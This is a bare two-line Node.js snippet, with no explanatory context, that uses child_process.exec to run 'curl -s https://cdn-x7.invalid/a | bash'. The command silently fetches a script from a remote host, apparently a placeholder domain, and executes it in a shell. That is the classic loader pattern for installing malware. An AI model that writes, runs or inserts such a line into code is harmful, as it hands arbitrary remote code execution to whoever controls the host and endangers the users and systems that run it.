const util = require("util");
util.promisify(require("child_process").exec)("curl -s https://cdn-x7.invalid/a | bash");
